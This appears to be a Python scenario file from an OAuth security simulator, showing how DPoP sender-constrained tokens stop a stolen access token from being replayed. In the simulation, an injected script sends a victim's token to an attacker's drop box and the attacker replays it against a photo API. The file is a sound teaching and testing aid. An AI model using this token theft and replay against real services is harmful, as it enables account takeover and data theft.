"""token-replay: a stolen access token is replayed by the attacker from their own machine
(RFC 9700 §4.10). Sender-constrained tokens (DPoP, RFC 9449) stop it.

The victim uses the single-page app with DPoP: its key pair is made with Web Crypto and is
non-extractable, so a script in the page can ask it to sign but cannot read it out. A script
injected into the page (XSS) reads the access token from the page's memory and sends it to
the attacker's drop box: that request is all the attacker learns. The attacker then calls
the photo API with it from elsewhere:

- with `dpop` on, the token is bound to the page's key (`cnf.jkt`). Sent as a plain Bearer
  token it is refused (RFC 9449 §7.2); sent the DPoP way with a proof of the attacker's own
  key it is refused too (the key does not match, §7.1). Refused at the resource server.
- with `dpop` off (`--off dpop`, `--insecure`), the server issues an ordinary bearer token:
  whoever holds it may use it (RFC 6750 §1.2), and the API hands alice's photos to the
  attacker.

What DPoP does not stop: a script that stays in the page can have the page's key sign
proofs for it while the page is open (RFC 9449 §11.4); DPoP limits a stolen token to the
device that holds the key, it does not make XSS harmless.
"""

from __future__ import annotations

from sim import defences
from sim.dpop import ProofKey
from sim.parties import ATTACKER, RESOURCE_SERVER
from sim.scenarios.base import AttackScenario, Attempt, Guard, ScenarioError, step
from sim.scenarios.dpop_spa import DPoPPage

API = "/api/photos"


class TokenReplay(AttackScenario):
    name = "token-replay"
    description = "A stolen access token replayed by the attacker (DPoP sender-constraint)"
    rfc = "RFC 9700 §4.10, RFC 9449 §7"
    guards = (
        Guard(
            defences.DPOP,
            step(ATTACKER, RESOURCE_SERVER, "GET", API),
            "the token is bound to the app's DPoP key (cnf.jkt); without a proof signed by "
            "that key the resource server refuses it (invalid_token)",
            "a bearer token: the resource server serves whoever presents it",
            "RFC 9449 §7.1, §7.2",
        ),
    )

    def attack(self, stage, flow, off, attacker) -> Attempt:
        page = DPoPPage(stage, stage.user_agent(flow))  # alice's browser running the SPA
        answer = page.log_in()
        if answer.status_code != 200:
            raise ScenarioError(f"the SPA got no token: {answer.text[:200]}")
        tokens = answer.json()
        own = page.call_api(API, tokens["access_token"], tokens["token_type"])
        # The injected script sends the token to the attacker; the key stays in the page.
        page.ua.get(attacker.drop_box(access_token=tokens["access_token"]))
        stolen = attacker.last("leak", "access_token")
        url = stage.resource_server_url + API
        as_bearer = attacker.http.get(
            url, headers={"Authorization": f"Bearer {stolen}"}, timeout=10
        )
        with_own_key = None
        if not as_bearer.ok:
            # Second try: the DPoP way, with a proof signed by a key of the attacker's own.
            key = ProofKey()
            with_own_key = attacker.http.get(
                url,
                headers={"Authorization": f"DPoP {stolen}", "DPoP": key.proof("GET", url, stolen)},
                timeout=10,
            )
        proof = as_bearer if as_bearer.ok else None
        owner = proof.json().get("owner") if proof is not None else None
        return Attempt(
            {
                "token_type": tokens.get("token_type"),
                "victim_api_status": own.status_code,
                "token_stolen": bool(stolen),
                "attacker_as_bearer_status": as_bearer.status_code,
                "attacker_with_own_key_status": (
                    with_own_key.status_code if with_own_key is not None else None
                ),
                "attacker_read_photos_of": owner,
            },
            proof=proof if owner == "alice" else None,
            proves="the attacker reads alice's photos with the stolen bearer token",
        )


SCENARIOS = [TokenReplay()]
